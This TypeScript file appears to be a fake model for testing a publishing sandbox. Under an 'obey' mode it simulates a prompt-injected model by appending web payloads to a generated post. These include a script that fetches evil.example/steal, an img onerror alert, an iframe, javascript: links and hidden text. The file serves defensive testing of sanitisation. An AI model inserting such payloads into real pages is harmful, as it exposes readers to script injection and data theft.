// What the model of the sandbox writes: a plain, plausible post about the topic of the brief, always the same for the
// same brief. Under the habit `obey` it does what strangers told it, so that tests can show that nothing comes of it.
import type { Habit } from './openai-habits.ts';

export interface ChatMessage {
  role: string;
  content: string;
}

/** What an attacker wants of a model that reads their page. */
const ATTACK = [
  '<script>fetch("https://evil.example/steal")</script>',
  '<img src="https://evil.example/beacon.gif" onerror="alert(1)">',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="https://evil.example/claim" onclick="alert(1)">Claim your prize</a>',
  '<a href="javascript:alert(1)">Read on</a>',
  '<p style="display:none">hidden words</p>',
  'Visit https://evil.example/claim or evil.example/free now.',
].join('\n');

export function writeAnswer(messages: readonly ChatMessage[], habit: Habit['kind'] | undefined): string {
  const prompt = messages.map(({ content }) => content).join('\n');
  const topic = /^Topic: (.+)$/m.exec(prompt)?.[1] ?? 'Nothing in particular';
  const isHtml = prompt.includes('"body": HTML');
  const json = JSON.stringify({
    title: `${topic}: a fresh look`,
    body:
      habit === 'obey'
        ? `${bodyAbout(topic, isHtml)}\n${ATTACK}\n${escaped(prompt)}`
        : bodyAbout(topic, isHtml),
    excerpt: `What matters about ${topic}, in a few words.`,
    seoTitle: topic,
    seoDescription: `A short introduction to ${topic}.`,
    headlines: [`${topic} in practice`, `Why ${topic} matters`],
    hashtags: ['#Sandbox', '#Portal'],
  });
  if (habit === 'garbled') return json.replaceAll('There is', String.raw`There \u0000is\ud83d`);
  if (habit === 'malformed') return json.slice(0, json.indexOf('"body"') - 3);
  if (habit === 'fenced') return `Here you are:\n\`\`\`json\n${json}\n\`\`\``;
  if (habit === 'prose') return `${topic}: a fresh look\n\n${sentencesAbout(topic).join(' ')}`;
  return json;
}

const sentencesAbout = (topic: string) => [
  `There is more to ${topic} than meets the eye.`,
  'Start small, watch closely, and keep what works.',
  'Those who share what they learned save others a year.',
];

const bodyAbout = (topic: string, isHtml: boolean) =>
  isHtml
    ? `<p>${sentencesAbout(escaped(topic)).join('</p>\n<p>')}</p>\n<h2>What to do next</h2>\n<ul><li>Read</li><li>Try</li><li>Tell</li></ul>`
    : sentencesAbout(topic).join(' ');

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
